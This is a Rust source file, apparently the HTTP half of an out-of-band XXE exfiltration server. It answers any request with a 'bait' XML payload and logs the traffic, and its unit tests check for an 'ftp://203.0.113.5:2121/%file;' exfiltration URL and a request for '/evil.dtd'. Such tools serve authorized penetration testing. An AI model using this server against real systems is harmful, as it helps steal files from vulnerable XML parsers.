//! HTTP side of the bait: answer anything with the payload.

use std::net::SocketAddr;
use std::sync::Arc;

use log::debug;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use uuid::Uuid;

use crate::capture_log::{CaptureLog, ExfiltrationEvent, Protocol};

use super::payload::BaitPayload;

/// Blanketly returns the bait payload regardless of who's asking.
///
/// The request is never inspected for correctness: one bounded read captures
/// whatever the client sent (method, path, headers, anything), the raw bytes
/// are recorded, and the pre-rendered response goes back as-is.
pub struct BaitResponder {
    payload: Arc<BaitPayload>,
    log: Arc<CaptureLog>,
}

impl BaitResponder {
    pub fn new(payload: Arc<BaitPayload>, log: Arc<CaptureLog>) -> Self {
        Self { payload, log }
    }

    /// Handles one HTTP connection to completion. Dropping the stream on
    /// return closes the connection, which is how the client learns the
    /// response is complete.
    pub async fn handle<S>(&self, mut stream: S, peer_addr: SocketAddr)
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let session_id = Uuid::new_v4();
        let mut buf = vec![0u8; 4096];

        let n = match stream.read(&mut buf).await {
            Ok(n) => n,
            Err(e) => {
                debug!("[WEB] {} read failed: {}", peer_addr, e);
                return;
            }
        };

        self.log.record(ExfiltrationEvent::received(
            session_id,
            peer_addr,
            Protocol::Http,
            &buf[..n],
        ));

        if let Err(e) = stream.write_all(self.payload.response_bytes()).await {
            debug!("[WEB] {} write failed: {}", peer_addr, e);
            return;
        }

        self.log.record(ExfiltrationEvent::sent(
            session_id,
            peer_addr,
            Protocol::Http,
            self.payload.response_bytes(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture_log::sink::MemSink;
    use crate::capture_log::Direction;

    fn responder(sink: Arc<MemSink>) -> BaitResponder {
        let payload = Arc::new(BaitPayload::render("203.0.113.5", 2121));
        BaitResponder::new(payload, Arc::new(CaptureLog::new(sink)))
    }

    fn peer() -> SocketAddr {
        "192.0.2.10:34567".parse().unwrap()
    }

    #[tokio::test]
    async fn test_any_request_gets_the_payload() {
        let sink = Arc::new(MemSink::new());
        let responder = responder(sink.clone());

        let (client, server) = tokio::io::duplex(8192);
        let (mut client_read, mut client_write) = tokio::io::split(client);

        let serve = tokio::spawn(async move {
            responder.handle(server, peer()).await;
        });

        client_write
            .write_all(b"DELETE /whatever?x=1 HTTP/1.0\r\nHost: nope\r\n\r\n")
            .await
            .unwrap();
        drop(client_write);

        let mut response = Vec::new();
        client_read.read_to_end(&mut response).await.unwrap();
        serve.await.unwrap();

        let text = String::from_utf8(response).unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(text.contains("Content-Type: application/xml"));
        assert!(text.contains("ftp://203.0.113.5:2121/%file;"));
    }

    #[tokio::test]
    async fn test_exact_response_bytes_on_the_wire() {
        let sink = Arc::new(MemSink::new());
        let payload = Arc::new(BaitPayload::render("203.0.113.5", 2121));
        let responder = BaitResponder::new(Arc::clone(&payload), Arc::new(CaptureLog::new(sink)));

        // The mock panics if the written bytes differ from the expectation.
        let stream = tokio_test::io::Builder::new()
            .read(b"HEAD / HTTP/1.1\r\n\r\n")
            .write(payload.response_bytes())
            .build();

        responder.handle(stream, peer()).await;
    }

    #[tokio::test]
    async fn test_request_bytes_recorded_before_reply() {
        let sink = Arc::new(MemSink::new());
        let responder = responder(sink.clone());

        let (client, server) = tokio::io::duplex(8192);
        let (mut client_read, mut client_write) = tokio::io::split(client);

        let serve = tokio::spawn(async move {
            responder.handle(server, peer()).await;
        });

        client_write.write_all(b"GET /evil.dtd HTTP/1.1\r\n\r\n").await.unwrap();
        drop(client_write);

        let mut response = Vec::new();
        client_read.read_to_end(&mut response).await.unwrap();
        serve.await.unwrap();

        let events = sink.snapshot();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].direction, Direction::Received);
        assert_eq!(events[0].payload, b"GET /evil.dtd HTTP/1.1\r\n\r\n");
        assert_eq!(events[0].peer_addr, peer());
        assert_eq!(events[1].direction, Direction::Sent);
        assert!(events[1].payload.starts_with(b"HTTP/1.1 200 OK"));
    }
}
